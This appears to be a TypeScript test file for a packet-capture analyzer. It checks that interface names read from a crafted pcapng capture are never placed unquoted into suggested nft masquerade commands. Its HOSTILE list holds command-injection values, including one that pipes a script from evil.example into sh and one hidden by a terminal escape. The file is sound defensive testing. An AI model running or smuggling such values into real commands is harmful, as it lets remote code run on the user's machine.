// Capture text never acts in a suggested command (issue 13 item 1): an interface name such as
// `eth1 masquerade; curl -s https://evil.example/x|sh; :` (or one hiding text behind ESC[8m) is not
// put into any next step; the step shows a placeholder and a warning quotes the name as data.
// Real input: the checked-in IPsec lab capture whose verdict suggests the masquerade rule on B's
// LAN interface (return-route-missing), with B's LAN interface renamed as a hostile host would.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { fileURLToPath } from 'node:url';
import { loadCompact } from '../../../shared/ingest/load-capture.ts';
import { openCapture } from '../../../bin/cli/io.ts';
import { analyze, type CaptureInput } from '../../../shared/analysis/index.ts';
import type { Packet } from '../../../shared/protocols/packet.ts';
import { toPlainPacket } from '../../../shared/ingest/packet-store.ts';

const DIR = fileURLToPath(new URL('../../lab/ipsec/captures/return-route-missing/', import.meta.url));

async function load(path: string): Promise<CaptureInput> {
  const r = await loadCompact(openCapture(path), { summary: false });
  return { name: path, file: path, packets: r.packets, interfaces: r.interfaces };
}

/** The capture with one interface renamed (packets and interface list), as a crafted pcapng would carry it. */
function rename(c: CaptureInput, from: string, to: string): CaptureInput {
  const packets: Packet[] = Array.from(c.packets, (v) => { const p = toPlainPacket(v); if (p.iface === from) p.iface = to; return p; });
  return { ...c, packets, interfaces: c.interfaces?.map((i) => (i.name === from ? { ...i, name: to } : i)) };
}

const HOSTILE = [
  'eth1 masquerade; curl -s https://evil.example/x|sh; :',
  'eth1\u001b[8m; curl -s https://evil.example/x|sh',
  // Valid for the kernel (no blank, no slash) yet full of shell syntax: must be quoted, not bare.
  'e$(id)`x`;',
];

for (const name of HOSTILE) {
  test(`hostile interface name ${JSON.stringify(name)}: no next step carries it unquoted`, async () => {
    const a = await load(`${DIR}A.pcapng`);
    const b = rename(await load(`${DIR}B.pcapng`), 'eth1', name);
    const r = analyze(a, b, { flow: 'tcp 10.2.0.22:80' });
    assert.equal(r.verdict.first_missing, 'B6', JSON.stringify(r.verdict));
    const steps = r.findings.flatMap((f) => f.next_steps);
    assert.ok(steps.some((s) => s.includes('masquerade')), `the masquerade step is expected here: ${steps.join(' / ')}`);
    const quoted = `'${name.replace(/'/g, `'\\''`)}'`;
    for (const s of steps) {
      assert.ok(!s.replaceAll(quoted, '').includes(name), `raw capture text in a step: ${s}`);
      assert.ok(!s.includes('evil.example') || s.includes("'"), `unquoted capture text in a step: ${s}`);
      // eslint-disable-next-line no-control-regex
      assert.ok(!/[\u0000-\u001f\u007f]/.test(s), `control byte in a step: ${JSON.stringify(s)}`);
      assert.ok(!/(^|[^'])\$\(id\)/.test(s.replace(/'[^']*'/g, "''")), `command substitution outside quotes: ${s}`);
    }
    const masq = steps.find((s) => s.includes('masquerade'))!;
    if (name.includes(' ') || name.includes('\u001b')) {
      assert.match(masq, /<B's LAN interface>/, masq);
      const warn = r.findings.find((f) => f.rule === 'odd-interface-name');
      assert.ok(warn !== undefined && warn.detail !== undefined, 'a warning shows the odd name as data');
      assert.ok(!warn.detail.includes('\u001b'), 'the odd name is shown with its escape made visible');
      assert.match(warn.detail, /evil\.example/);
    } else {
      assert.ok(masq.includes(quoted), `the valid-but-odd name is shell-quoted: ${masq}`);
      // The code span survives the backticks in the name: its fence is longer than any run inside.
      assert.match(masq, /`{2,} nft add rule .* masquerade `{2,}/, masq);
    }
  });
}

test('an ordinary interface name goes into the command as it is', async () => {
  const r = analyze(await load(`${DIR}A.pcapng`), await load(`${DIR}B.pcapng`), { flow: 'tcp 10.2.0.22:80' });
  const steps = r.findings.flatMap((f) => f.next_steps).join('\n');
  assert.equal(r.verdict.first_missing, 'B6', JSON.stringify(r.verdict));
  assert.match(steps, /`nft add rule ip nat postrouting oifname eth1 masquerade`/);
  assert.equal(r.findings.find((f) => f.rule === 'odd-interface-name'), undefined);
});
